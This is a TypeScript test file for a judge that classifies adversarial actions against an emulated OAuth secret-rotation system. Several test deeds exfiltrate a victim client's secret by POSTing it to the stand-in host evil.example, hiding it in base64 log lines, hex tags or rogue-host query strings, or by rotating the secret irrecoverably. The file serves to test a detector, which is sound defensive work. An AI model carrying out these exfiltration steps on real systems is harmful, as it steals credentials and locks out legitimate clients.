import { beforeAll, describe, expect, it } from "vitest";
import { prepareHistory } from "../prove/adversary/histories.ts";
import type { ViolationName } from "../prove/adversary/judge/judge.ts";
import type { Prepared } from "../prove/adversary/prepare.ts";
import { parseWorldKind } from "../prove/adversary/worlds.ts";
import {
  add,
  base64,
  content,
  type Deed,
  judgedDeed,
  looks,
  nothing,
  secretUrl,
  type Tools,
  tokenOf,
  UAA,
  writes,
} from "./adversary-deeds.ts";

const WORLD = "uaa,alone,open";

describe("the judge of the adversary", () => {
  let prepared: Prepared;
  beforeAll(async () => {
    prepared = await prepareHistory(parseWorldKind(WORLD), "H1", 1);
  });

  const judged = (deed: Deed, moves = "-", event = "whole") =>
    judgedDeed(prepared, `${WORLD}/H1/${event}/token/${moves}/-`, deed);

  it("finds nothing where nothing happens", async () => {
    expect(await judged(nothing)).toEqual({ found: [], problems: [] });
  });

  const exfiltrations: readonly (readonly [string, Deed])[] = [
    ["an answer", ({ value }) => Promise.resolve({ returnMessage: `OK: ${value}. Next: nothing.` })],
    [
      "a log line",
      ({ write, value }) => {
        write(JSON.stringify({ event: "x", value: base64(`a${value}`) }));
        return Promise.resolve(undefined);
      },
    ],
    [
      "a request to https://evil.example/hook",
      async ({ ask, value }) => void (await ask("POST", "https://evil.example/hook", value)),
    ],
    [
      "a request to https://uaa.emulated.example/rogue/x",
      async ({ ask, value }) =>
        void (await ask("GET", `https://uaa.emulated.example/rogue/x?${encodeURIComponent(value)}`)),
    ],
    [
      "a request to https://rogue.uaa.emulated.example/uaa/x",
      async (tools) => {
        const token = await tokenOf(tools, tools.prepared.clients.S.clientId, tools.value);
        await tools.ask("GET", "https://rogue.uaa.emulated.example/uaa/x", undefined, {
          authorization: `Bearer ${token}`,
        });
        return undefined;
      },
    ],
    [
      "a tag, the metadata or a name",
      async (tools) => void (await writes(tools, "S", { metadata: { a: tools.value } })),
    ],
    [
      "a tag, the metadata or a name",
      async (tools) =>
        void (await writes(tools, "S", { freeformTags: { a: Buffer.from(tools.value).toString("hex") } })),
    ],
    ["the attacker's own secret", async (tools) => void (await writes(tools, "O", content(tools.value, "PENDING")))],
  ];
  it.each(exfiltrations)("finds a value or token of S in %s", async (where, deed) => {
    const { found, problems } = await judged(deed);
    expect(found).toEqual(["exfiltrated"]);
    expect(problems).toEqual([`exfiltrated: a value or token of another client in ${where}`]);
  });

  it("finds the value of the other team's client as well", async () => {
    const deed: Deed = async (tools) => {
      const { B } = tools.prepared.secretIds;
      const stored = tools.prepared.state.vault.secrets[B]?.versions[0]?.content ?? "";
      await tools.ask("POST", "https://evil.example/hook", stored);
      return undefined;
    };
    expect((await judged(deed)).found).toEqual(["exfiltrated"]);
  });

  it("takes what S's own client is sent, and what the attacker wrote, for no leak", async () => {
    const deed: Deed = async (tools) => {
      await tokenOf(tools, tools.prepared.clients.S.clientId, tools.value);
      await tools.ask("POST", "https://evil.example/hook", "a-value-that-the-attacker-knows-well");
      return undefined;
    };
    expect(await judged(deed, "c7-pending@0")).toEqual({ found: [], problems: [] });
  });

  it("finds a value of the attacker's that the issuer takes for S", async () => {
    const { found } = await judged(async (tools) => {
      const { clientId } = tools.prepared.clients.S;
      await looks(tools);
      const token = await tokenOf(tools, clientId, tools.value);
      await add(tools, clientId, token, tools.value, "a-value-that-the-attacker-knows-well");
      return undefined;
    }, "c7-pending@0");
    expect(found).toEqual(["planted"]);
  });

  it("finds a client changed in a call on another secret", async () => {
    const { found } = await judged(
      async (tools) => {
        const { clientId } = tools.prepared.clients.S;
        await tools.ask("GET", secretUrl(tools, "O"));
        const token = await tokenOf(tools, clientId, tools.value);
        await add(tools, clientId, token, tools.value, "x".repeat(40));
        return undefined;
      },
      "-",
      "own-whole",
    );
    expect(found).toEqual(["foreignChanges", "lent"]);
  });

  it("finds more new values than the run without the attacker has", async () => {
    const { found } = await judged(
      async (tools) => {
        const { clientId } = tools.prepared.clients.S;
        await looks(tools);
        await add(tools, clientId, await tokenOf(tools, clientId, tools.value), tools.value, "x".repeat(40));
        return undefined;
      },
      "-",
      "heal",
    );
    expect(found).toEqual(["lent"]);
  });

  it("finds that CURRENT does not work any more, and that nobody can bring it back", async () => {
    const { found } = await judged(async (tools) => {
      const { clientId } = tools.prepared.clients.S;
      await looks(tools);
      const headers = (token: string) => ({ "content-type": "application/json", authorization: `Bearer ${token}` });
      const token = await tokenOf(tools, clientId, tools.value);
      const body = { clientId, changeMode: "UPDATE", oldSecret: tools.value, secret: "x".repeat(40) };
      await tools.ask("PUT", `${UAA}/oauth/clients/${clientId}/secret`, body, headers(token));
      return undefined;
    });
    expect(found).toEqual(["lost", "ended"]);
  });

  it("calls it raced where the attacker wrote between the new value and its store", async () => {
    const { found } = await judged(async (tools) => {
      const { clientId } = tools.prepared.clients.S;
      await looks(tools);
      const token = await tokenOf(tools, clientId, tools.value);
      const body = { clientId, changeMode: "UPDATE", oldSecret: tools.value, secret: "x".repeat(40) };
      const headers = { "content-type": "application/json", authorization: `Bearer ${token}` };
      await tools.ask("PUT", `${UAA}/oauth/clients/${clientId}/secret`, body, headers);
      await looks(tools);
      return undefined;
    }, "c11-pending@2");
    expect(found).toEqual(["ended", "raced"]);
  });

  it("finds a PENDING value of S's own left behind, and none of the attacker's", async () => {
    const own = (value: string) =>
      JSON.stringify({ issuer: "uaa", url: UAA, ...prepared.clients.S.members, clientSecret: value });
    const { found } = await judged(
      async (tools) => void (await writes(tools, "S", content(own("x".repeat(40)), "PENDING"))),
    );
    expect(found).toEqual(["notConverged"]);
    expect((await judged(nothing, "c1-pending@0")).found).toEqual([]);
  });

  const named = (event: string) => JSON.stringify({ event });
  it.each<readonly [string, ViolationName]>([
    ["crossing-refused", "crossed"],
    ["secret-masked", "masked"],
  ])("finds the second line %s", async (event, figure) => {
    const { found } = await judged(({ write }) => {
      write(named(event));
      return Promise.resolve(undefined);
    });
    expect(found).toEqual([figure]);
  });

  const reads = async (tools: Tools) => {
    for (const query of ["stage=CURRENT", "versionNumber=2"]) {
      const path = `/20190301/secretbundles/${tools.prepared.secretIds.S}?${query}`;
      await tools.ask("GET", `https://secrets.vaults.emulated.example${path}`);
    }
  };
  it.each(["c1-pending@0", "c7-pending@0", "c8-pending@0", "c11-pending@0"])(
    "finds a version that was met and not named: %s",
    async (move) => {
      expect((await judged(async (tools) => void (await reads(tools)), move)).found).toEqual(["silent"]);
      const naming: Deed = async (tools) => {
        await reads(tools);
        return { returnMessage: "OK: done; warning: version 2 was left alone. Next: nothing." };
      };
      expect((await judged(naming, move)).found).toEqual([]);
    },
  );

  it("finds an answer that is none", async () => {
    expect((await judged(() => Promise.resolve({ returnMessage: "fine" }))).found).toEqual(["malformed"]);
  });
});
